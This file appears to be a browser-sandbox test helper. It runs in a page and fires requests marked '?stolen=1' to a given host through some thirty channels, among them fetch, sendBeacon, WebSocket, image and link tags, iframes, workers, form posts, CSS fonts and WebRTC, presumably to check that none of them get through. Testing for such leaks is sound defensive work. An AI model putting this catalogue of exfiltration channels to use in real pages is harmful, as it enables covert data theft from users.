// This is text that the page evaluates, not a module.
/**
 * Runs in the page and tries every way in which a script can send something to `host`. Resolves when all have had time.
 */
globalThis.inPage = async (host) => {
  const url = (kind) => `http://${host}/${kind}?stolen=1`;
  const add = (tag, attributes) => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    document.body.append(element);
    return element;
  };
  const tries = [
    () => fetch(url("fetch")),
    () => fetch(url("no-cors"), { mode: "no-cors" }),
    () => fetch(url("keepalive"), { keepalive: true, method: "POST", body: "x" }),
    () => {
      const request = new XMLHttpRequest();
      request.open("POST", url("xhr"));
      request.send("x");
    },
    () => navigator.sendBeacon(url("beacon"), "x"),
    () => new EventSource(url("events")),
    () => new WebSocket(`ws://${host}/socket`),
    () => {
      new Image().src = url("image");
    },
    () => add("img", { src: url("img") }),
    () => add("div", { style: `background: url(${url("style")})` }),
    () => add("link", { rel: "stylesheet", href: url("css") }),
    () => add("link", { rel: "prefetch", href: url("prefetch") }),
    () => add("link", { rel: "preload", as: "image", href: url("preload") }),
    () => add("link", { rel: "modulepreload", href: url("modulepreload") }),
    () => add("link", { rel: "icon", href: url("icon") }),
    () => add("iframe", { src: url("iframe") }),
    () => add("object", { data: url("object") }),
    () => add("embed", { src: url("embed") }),
    () => add("video", { src: url("video"), autoplay: "" }),
    () => add("audio", { src: url("audio"), autoplay: "" }),
    () => add("video", { poster: url("poster") }),
    () => {
      const sheet = new CSSStyleSheet();
      sheet.replaceSync(
        `body { background-image: url(${url("sheet")}) } @font-face { font-family: x; src: url(${url("font")}) } html { font-family: x }`,
      );
      document.adoptedStyleSheets.push(sheet);
    },
    () => add("script", { src: url("script") }),
    () => import(/* @vite-ignore */ url("import")),
    () => new Worker(url("worker")),
    () => new SharedWorker(url("shared-worker")),
    () => new Worker(URL.createObjectURL(new Blob([`fetch("${url("blob-worker")}")`]))),
    () => navigator.serviceWorker.register(url("service-worker")),
    () => {
      const form = add("form", { action: url("form"), method: "post", target: "_blank" });
      form.submit();
    },
    () => {
      const frame = add("iframe", {});
      return frame.contentWindow?.fetch(url("blank-frame"));
    },
    () => {
      const frame = add("iframe", { srcdoc: `<img src="${url("srcdoc")}">` });
      return frame;
    },
    () => document.body.insertAdjacentHTML("beforeend", `<img src="${url("html")}">`),
    () => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${host}` }] });
      peer.createDataChannel("x");
      return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
    },
  ];
  for (const attempt of tries) {
    try {
      Promise.resolve(attempt()).catch(() => {}); // The test looks only at what arrives.
    } catch {
      // The same.
    }
  }
  await new Promise((done) => setTimeout(done, 1_500));
};
